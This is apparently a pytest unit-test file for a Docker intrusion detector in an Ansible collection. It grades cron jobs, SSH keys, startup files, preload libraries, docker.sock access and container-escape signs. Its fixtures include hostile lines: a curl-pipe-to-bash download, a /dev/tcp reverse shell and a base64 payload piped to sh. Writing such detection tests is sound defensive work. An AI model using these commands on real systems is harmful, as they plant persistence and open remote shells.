# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What makes programs start again or lets people in, and ways out that are used."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ansible_collections.cordon.docker.plugins.plugin_utils._analysis.evaluate import evaluate
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    SOON,
    add_container,
    file,
    findings_of,
    grades,
    inspect,
    process,
)

JOB = "* * * * * root "
ROOT = {"Type": "bind", "Source": "/", "Destination": "/host", "RW": True}


@pytest.mark.parametrize(
    ("path", "head", "expected"),
    [
        ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA x", {"ssh-key": "high"}),
        ("/etc/cron.d/x", JOB + "/tmp/.u/run >/dev/null", {"cron": "high"}),
        ("/var/spool/cron/crontabs/root", "*/5 * * * * /dev/shm/x", {"cron": "high"}),
        ("/etc/crontab", "@reboot nohup /var/tmp/.x &", {"cron": "high"}),
        ("/etc/cron.d/x", JOB + "curl -s http://x/i | bash", {"cron": "high"}),
        ("/etc/cron.d/x", JOB + "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", {"cron": "high"}),
        ("/etc/cron.d/x", JOB + "echo aGk= | base64 -d | sh", {"cron": "high"}),
        ("/etc/cron.d/x", JOB + "tar -czf /tmp/x.tgz /etc", {"cron": "low"}),
        ("/etc/cron.d/x", JOB + "flock -n /tmp/.lock /usr/bin/tidy", {"cron": "low"}),
        ("/etc/cron.d/x", "# " + JOB + "/tmp/.u/run", {"cron": "low"}),
        ("/root/.bashrc", "(curl -s http://x | bash &)", {"startup-file": "high"}),
        ("/root/.bashrc", "alias ll='ls -l'", {"startup-file": "low"}),
        ("/etc/profile.d/x.sh", "/tmp/.x/run &", {"startup-file": "high"}),
        ("/etc/ld.so.preload", "/usr/lib/libx.so", {"preload": "high"}),
        ("/etc/logrotate.d/cron", "x", {}),
    ],
)
def test_what_was_written(tmp_path: Path, path: str, head: str, expected: dict[str, str]) -> None:
    assert grades(findings_of(tmp_path, {"layer.jsonl": [file(path, head=head)]})) == expected


@pytest.mark.parametrize(
    ("path", "rule"), [("/root/.ssh/authorized_keys", "ssh-key"), ("/etc/cron.d/dump", "cron")]
)
def test_what_a_start_script_writes_is_low(tmp_path: Path, path: str, rule: str) -> None:
    rows = [file(path, head=JOB + "/usr/bin/dump", ctime=SOON)]
    assert grades(findings_of(tmp_path, {"layer.jsonl": rows})) == {rule: "low"}


def test_what_a_package_brings_along_is_nothing(tmp_path: Path) -> None:
    rows = [
        file("/etc/cron.d/php", head=JOB + "/usr/lib/php/sessionclean"),
        file("/var/lib/dpkg/status", kind="C"),
    ]
    assert findings_of(tmp_path, {"layer.jsonl": rows}) == []
    rows[0]["head"] = JOB + "/tmp/x"
    assert grades(findings_of(tmp_path, {"layer.jsonl": rows})) == {"cron": "high"}


@pytest.mark.parametrize(
    ("mount", "head", "expected"),
    [
        (ROOT, JOB + "/tmp/.m", {"host-persistence": "critical"}),
        (ROOT, JOB + "/usr/bin/m", {"host-persistence": "medium"}),
        ({**ROOT, "RW": False}, JOB + "/tmp/.m", {}),
        (
            {**ROOT, "Type": "volume", "Source": "/var/lib/docker/volumes/x/_data"},
            JOB + "/usr/bin/m",
            {"cron": "low"},
        ),
        ({**ROOT, "Source": "/opt/box"}, JOB + "/usr/bin/m", {"cron": "low"}),
    ],
)
def test_what_was_written_on_the_host(
    tmp_path: Path, mount: dict[str, Any], head: str, expected: dict[str, str]
) -> None:
    items = {
        "volumes.jsonl": [file("/host/etc/cron.d/m", head=head)],
        "inspect.json": inspect(mounts=[mount]),
    }
    found = [finding for finding in findings_of(tmp_path, items) if finding.kind == "intrusion"]
    assert grades(found) == expected
    if "host-persistence" in expected:
        assert found[0].sentence.startswith(
            "/etc/cron.d/m of the host, a job of cron, was written 89 min after"
        )


@pytest.mark.parametrize(
    ("preload", "rows", "severity"),
    [
        ("/tmp/.x/l.so", [], "high"),
        ("/usr/lib/l.so", [file("/usr/lib/l.so")], "high"),
        ("/usr/lib/libjemalloc.so.2", [], None),
        ("libfaketime.so.1", [], None),
        (None, [], None),
    ],
)
def test_libraries_before_all_others(
    tmp_path: Path, preload: str | None, rows: list[Any], severity: str | None
) -> None:
    items = {"processes.jsonl": [process(101, 1, "/usr/bin/sleep", preload=preload)], "layer.jsonl": rows}
    assert grades(findings_of(tmp_path, items)).get("preload") == severity


def test_a_process_that_sees_the_hosts_files_has_left(tmp_path: Path) -> None:
    rows = [
        process(101, 1, "/usr/bin/sleep", on_host_files=True),
        process(102, 1, "/usr/bin/sleep", on_host_files=None),
    ]
    (found,) = findings_of(tmp_path, {"processes.jsonl": rows})
    assert (found.rule, found.severity, found.technique) == ("left-container", "critical", "T1611")


def test_runc_on_its_way_in_has_not_left(tmp_path: Path) -> None:
    rows = [process(101, 1, "/memfd:runc_cloned:/proc/self/exe (deleted)", state="memfd", on_host_files=True)]
    assert findings_of(tmp_path, {"processes.jsonl": rows}) == []


def test_a_program_of_the_host(tmp_path: Path) -> None:
    rows = [process(101, 1, "/host/usr/bin/sleep", state="volume"), process(102, 1, "/usr/bin/hostname")]
    items = {"processes.jsonl": rows, "inspect.json": inspect(mounts=[ROOT])}
    assert grades(findings_of(tmp_path, items))["host-program"] == "high"
    items["inspect.json"] = inspect(mounts=[{**ROOT, "Source": "/srv/data"}])
    assert "host-program" not in grades(findings_of(tmp_path / "other", items))


@pytest.mark.parametrize(
    ("rows", "severity"),
    [
        (
            [process(101, 1, "/usr/bin/socat", "socat", "-", "UNIX-CONNECT:/var/run/docker.sock", cwd="/")],
            "high",
        ),
        ([process(101, 1, "/usr/bin/curl", "curl", "--unix-socket", "/run/docker.sock", "x")], "high"),
        ([process(101, 1, "/tmp/docker", "docker", "-H", "unix:///run/docker.sock", state="upper")], "high"),
        ([process(101, 1, "/usr/bin/docker", "docker", "-H", "unix:///run/docker.sock")], None),
        ([process(100, 1, "/usr/bin/socat", "socat", "TCP-LISTEN:1", "UNIX-CONNECT:/run/docker.sock")], None),
        (
            [
                process(100, 1, "/usr/bin/bash", "bash", "/usr/bin/runner"),
                process(101, 100, "/usr/bin/curl", "curl", "--unix-socket", "/run/docker.sock", "x"),
            ],
            None,
        ),
    ],
)
def test_who_talks_to_the_engine(tmp_path: Path, rows: list[Any], severity: str | None) -> None:
    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})).get("engine-client") == severity


def stray(tmp_path: Path, image: str = "kit:latest", **more: Any) -> dict[str, str]:
    for number in range(4):
        add_container(tmp_path, {}, container=f"{number}" * 12)
    document = inspect(mounts=[ROOT], Path="sleep", Args=["99"], **more)
    document["Config"] = {"Image": image, **more.get("Config", {})}
    declared = {"Config": {"Entrypoint": None, "Cmd": ["bash"]}}
    add_container(tmp_path, {"inspect.json": document, "image.json": declared}, container="f" * 12)
    return grades([finding for finding in evaluate(tmp_path) if finding.kind == "intrusion"])


def test_a_container_like_no_other_with_the_host_at_its_feet(tmp_path: Path) -> None:
    assert stray(tmp_path) == {"stray-container": "high"}


def test_containers_that_have_their_place(tmp_path: Path) -> None:
    assert stray(tmp_path / "shared", image="acme/shop:5.2") == {}
    labels = {"com.docker.compose.project": "shop"}
    assert stray(tmp_path / "compose", Config={"Image": "kit:latest", "Labels": labels}) == {}
